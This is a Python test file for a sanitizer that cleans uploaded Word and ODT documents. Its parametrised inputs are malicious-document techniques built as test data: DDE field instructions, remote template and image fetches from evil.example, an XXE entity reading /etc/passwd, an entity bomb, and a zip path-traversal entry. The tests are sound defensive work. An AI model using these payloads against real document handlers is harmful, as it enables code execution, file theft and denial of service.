"""What becomes of a DOCX or ODT: text, style and pictures stay; what acts, fetches or tells of its maker goes."""

from __future__ import annotations

from io import BytesIO
from pathlib import Path

import pytest
from docx import Document

from stagemap.kit.uploads.kinds import Media, Unclean, Why
from stagemap.kit.uploads.washing import docx, odt
from stagemap.kit.uploads.washing.packages import MOST_ENTRIES
from tests.uploads import samples
from tests.uploads.samples import CANARY, RELATION, SPACES

OUTSIDE = 'TargetMode="External"'
TEXT = ["Stappenplan rekenen", "Eerst kijken, dan doen.", "", "Plan"]


def washed(data: bytes, folder: Path) -> dict[str, bytes]:
    """The entries of what is made of a document; none holds the canary."""
    source, target = folder / "came", folder / "made"
    source.write_bytes(data)
    washing = odt if b"opendocument" in data[:100] else docx
    assert washing.wash(source, target) is (Media.ODT if washing is odt else Media.DOCX)
    assert not samples.tells(target)
    return samples.unzipped(target)


def words(entries: dict[str, bytes]) -> list[str]:
    """The paragraphs of a Word document as another program reads them."""
    return [each.text for each in Document(BytesIO(samples.zipped(entries))).paragraphs][:4]


def relation(key: str, kind: str, target: str, more: str = "") -> str:
    return f'<Relationship Id="{key}" Type="{RELATION}/{kind}" Target="{target}" {more}/>'


def test_a_word_document_keeps_its_text_style_picture_and_link(tmp_path: Path) -> None:
    made = washed(samples.docx(), tmp_path)
    read = Document(BytesIO(samples.zipped(made)))
    style = read.paragraphs[0].style
    assert style is not None
    assert (words(made), style.name, len(read.inline_shapes)) == (TEXT, "Heading 1", 1)
    assert b"https://stage.example/plan" in made["word/_rels/document.xml.rels"]
    assert [name for name in made if name.startswith(("docProps", "customXml"))] == []


def field(instruction: str) -> str:
    """A field in the pieces in which Word may cut it."""
    half = len(instruction) // 2
    pieces = "".join(
        f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in (instruction[:half], instruction[half:])
    )
    marks = [f'<w:r><w:fldChar w:fldCharType="{each}"/></w:r>' for each in ("begin", "separate", "end")]
    return f"<w:p {SPACES}>{marks[0]}{pieces}{marks[1]}<w:r><w:t>getoond</w:t></w:r>{marks[2]}</w:p>"


@pytest.mark.parametrize(
    ("body", "relations", "parts"),
    [
        ("", relation("x1", "vbaProject", "vbaProject.bin"), {"word/vbaProject.bin": CANARY}),
        ("", relation("x1", "attachedTemplate", f"http://evil.example/{CANARY}", OUTSIDE), {}),
        (
            f'<w:p {SPACES}><w:object><o:OLEObject xmlns:o="urn:o" r:id="x1" ProgID="{CANARY}"/></w:object></w:p>',
            relation("x1", "oleObject", "embeddings/o.bin"),
            {"word/embeddings/o.bin": CANARY},
        ),
        (
            f'<w:p {SPACES}><w:r><w:pict><v:imagedata xmlns:v="urn:v" r:id="x1"/></w:pict></w:r></w:p>',
            relation("x1", "image", f"file://server/{CANARY}.png", OUTSIDE),
            {},
        ),
        (f'<w:altChunk {SPACES} r:id="x1"/>', relation("x1", "aFChunk", "a.html"), {"word/a.html": CANARY}),
        (
            f'<w:p {SPACES}><w:hyperlink r:id="x1"><w:r><w:t>hier</w:t></w:r></w:hyperlink></w:p>',
            relation("x1", "hyperlink", f"file:///{CANARY}", OUTSIDE),
            {},
        ),
        (f'<w:p {SPACES}><w:ins w:author="{CANARY}" w:date="2027"><w:r><w:t>nieuw</w:t></w:r></w:ins></w:p>', "", {}),
        (f'<w:p {SPACES}><w:fldSimple w:instr="DDEAUTO {CANARY}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>', "", {}),
        (field(f"DDEAUTO c:\\{CANARY}"), "", {}),
        (field(f'INCLUDEPICTURE "http://evil.example/{CANARY}"'), "", {}),
        (field(f'HYPERLINK "\\\\server\\{CANARY}"'), "", {}),
        (f"<w:p {SPACES}><w:r><w:instrText>DDE {CANARY}</w:instrText></w:r></w:p>", "", {}),
        (f'<w:p {SPACES}><w:fldChar w:fldCharType="begin"/><w:instrText>DDE {CANARY}</w:instrText></w:p>', "", {}),
        ("", "", {"customXml/item1.xml": f"<a>{CANARY}</a>", "../../etc/cron.d/x": CANARY}),
        (f"<?act {CANARY}?><!-- {CANARY} -->", "", {}),
        ("", relation("x1", "people", "people.xml"), {"word/people.xml": CANARY}),
        ("", relation("x1", "image", "media/x.svg"), {"word/media/x.svg": f"<svg>{CANARY}</svg>"}),
    ],
)  # fmt: skip
def test_what_acts_fetches_or_tells_of_its_maker_leaves_a_word_document(
    body: str, relations: str, parts: dict[str, str | bytes], tmp_path: Path
) -> None:
    assert words(washed(samples.docx_with(body, relations, parts), tmp_path)) == TEXT


@pytest.mark.parametrize(
    "instruction", ["PAGE", "TOC \\o", 'HYPERLINK "https://stage.example"', 'HYPERLINK \\l "kop"', "= 1 + 2"]
)
def test_a_field_that_counts_or_links_stays(instruction: str, tmp_path: Path) -> None:
    made = washed(samples.docx_with(field(instruction)), tmp_path)["word/document.xml"]
    half = len(instruction) // 2
    assert [each.encode() in made for each in (instruction[:half], instruction[half:])] == [True, True]


def test_parts_that_lead_to_each_other_are_taken_over_once(tmp_path: Path) -> None:
    header = f"<w:hdr {SPACES}><w:p><w:r><w:t>kop</w:t></w:r></w:p></w:hdr>"
    back = f'<Relationships xmlns="{samples.PACKAGE}">{relation("y1", "header", "kop.xml")}</Relationships>'
    parts = {"word/kop.xml": header, "word/_rels/kop.xml.rels": back}
    made = washed(samples.docx_with("", relation("x1", "header", "/word/kop.xml"), parts), tmp_path)
    assert b"kop" in made["word/kop.xml"]


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ((".document.main+xml", ".document.macroEnabled.main+xml"), Why.MACROS),
        (("wordprocessingml.document.main+xml", "spreadsheetml.sheet.main+xml"), Why.NO_TEXT),
        (("wordprocessingml.document.main+xml", "wordprocessingml.template.main+xml"), Why.NO_TEXT),
    ],
)
def test_a_file_of_another_program_is_refused(change: tuple[str, str], why: Why, tmp_path: Path) -> None:
    parts = samples.unzipped(samples.docx())
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(change[0].encode(), change[1].encode())
    assert refusal(samples.zipped(parts), tmp_path) is why


def refusal(data: bytes, folder: Path) -> Why:
    """Why a document is not taken."""
    with pytest.raises(Unclean) as refused:
        washed(data, folder)
    return refused.value.why


BOMB = (
    '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    f"<w:document {SPACES}><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>"
)
READS = f'<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document {SPACES}>&a;</w:document>'


@pytest.mark.parametrize(
    ("parts", "why"),
    [
        ({"word/document.xml": BOMB}, Why.TOO_DENSE),
        ({"word/document.xml": READS.encode("utf-16")}, Why.TOO_DENSE),
        ({"word/document.xml": "<w:document>"}, Why.BROKEN),
        ({"word/document.xml": b" " * 13_000_000}, Why.TOO_DENSE),
        ({"word/x": b"\0" * 70_000_000}, Why.TOO_DENSE),
        ({f"word/{number}": b"" for number in range(MOST_ENTRIES)}, Why.TOO_DENSE),
        ({"[Content_Types].xml": "<Types/>"}, Why.NO_TEXT),
        ({"word/media/image1.jpg": b"II*\0 a tiff"}, Why.PICTURE_INSIDE),
        ({"word/media/image1.jpg": samples.picture("WEBP")}, Why.PICTURE_INSIDE),
    ],
)
def test_a_word_document_that_hurts_is_refused(parts: dict[str, str | bytes], why: Why, tmp_path: Path) -> None:
    assert refusal(samples.docx_with(parts=parts), tmp_path) is why


def test_a_part_that_is_larger_than_any_text_is_refused(tmp_path: Path) -> None:
    noise = bytes(range(33, 60)) * 500_000
    assert (
        refusal(samples.docx_with(parts={"word/document.xml": noise, "word/x": samples.noise(300_000)}), tmp_path)
        is Why.TOO_HEAVY
    )


@pytest.mark.parametrize("data", [b"PK\x03\x04 no more", samples.docx()[:-100]])
def test_a_zip_that_breaks_off_is_refused(data: bytes, tmp_path: Path) -> None:
    assert refusal(data, tmp_path) is Why.BROKEN


def test_a_zip_with_a_password_is_refused(tmp_path: Path) -> None:
    data = bytearray(samples.docx())
    at = data.rindex(b"PK\x01\x02")
    data[at + 8] |= 1
    assert refusal(bytes(data), tmp_path) is Why.LOCKED


def test_a_zip_without_a_document_is_refused(tmp_path: Path) -> None:
    assert refusal(samples.zipped({"a.txt": "tekst"}), tmp_path) is Why.NO_TEXT


def test_a_document_without_its_main_part_is_refused(tmp_path: Path) -> None:
    parts = samples.unzipped(samples.docx())
    del parts["_rels/.rels"]
    assert refusal(samples.zipped(parts), tmp_path) is Why.NO_TEXT


def test_an_odt_keeps_its_text_picture_and_link(tmp_path: Path) -> None:
    made = washed(samples.odt(), tmp_path)
    assert list(made) == ["mimetype", "Pictures/plan.jpg", "content.xml", "META-INF/manifest.xml"]
    assert [each in made["content.xml"] for each in (b"Eerst kijken", b"https://stage.example/plan", b"plan.jpg")] == [
        True
    ] * 3
    assert (made["mimetype"], b"Pictures/plan.jpg" in made["META-INF/manifest.xml"]) == (
        samples.ODT_TYPE.encode(),
        True,
    )


@pytest.mark.parametrize(
    ("body", "parts"),
    [
        (f"<office:scripts><office:script>{CANARY}</office:script></office:scripts>", {}),
        (f'<text:p>na<text:script xlink:href="{CANARY}"/></text:p>', {"Basic/Standard/Module1.xml": CANARY}),
        (f'<draw:frame><draw:object xlink:href="./{CANARY}"/></draw:frame>', {f"{CANARY}/content.xml": "x"}),
        (f'<draw:frame><draw:image xlink:href="http://evil.example/{CANARY}.png"/></draw:frame>', {}),
        (f'<text:a xlink:href="file:///{CANARY}">hier</text:a>', {}),
        (f'<text:section><text:section-source xlink:href="{CANARY}"/></text:section>', {}),
        (f"<office:annotation><dc:creator>{CANARY}</dc:creator><text:p>let op</text:p></office:annotation>", {}),
        (f'<office:event-listeners><script:event-listener xlink:href="{CANARY}"/></office:event-listeners>', {}),
        (f"<text:dde-connection-decls>{CANARY}</text:dde-connection-decls>", {"Configurations2/x.xml": CANARY}),
    ],
)  # fmt: skip
def test_what_acts_fetches_or_tells_of_its_maker_leaves_an_odt(
    body: str, parts: dict[str, str | bytes], tmp_path: Path
) -> None:
    assert b"Eerst kijken" in washed(samples.odt(body, parts), tmp_path)["content.xml"]


def test_text_behind_what_goes_stays(tmp_path: Path) -> None:
    made = washed(samples.odt("<text:p><text:script/>na<text:script/> elkaar</text:p>"), tmp_path)["content.xml"]
    assert b"<text:p>na elkaar</text:p>" in made


@pytest.mark.parametrize(
    ("parts", "why"),
    [
        ({"META-INF/manifest.xml": "<m><encryption-data/></m>"}, Why.LOCKED),
        ({"Pictures/plan.jpg": b"VCLMTF"}, Why.PICTURE_INSIDE),
        ({"content.xml": "<!DOCTYPE a><a/>"}, Why.TOO_DENSE),
    ],
)
def test_an_odt_that_cannot_be_cleaned_is_refused(parts: dict[str, str | bytes], why: Why, tmp_path: Path) -> None:
    assert refusal(samples.odt(parts=parts), tmp_path) is why


def test_an_odt_without_text_is_refused(tmp_path: Path) -> None:
    assert refusal(samples.zipped({"mimetype": samples.ODT_TYPE}), tmp_path) is Why.NO_TEXT


@pytest.mark.parametrize(
    "picture", [samples.picture("JPEG"), samples.picture("PNG"), b"GIF89a", b"\xd7\xcd\xc6\x9a", b"\0" * 40 + b" EMF"]
)
def test_a_picture_in_a_document_loses_what_it_carries(picture: bytes, tmp_path: Path) -> None:
    made = washed(samples.odt(parts={"Pictures/plan.jpg": picture}), tmp_path)["Pictures/plan.jpg"]
    assert made[:3] == picture[:3]
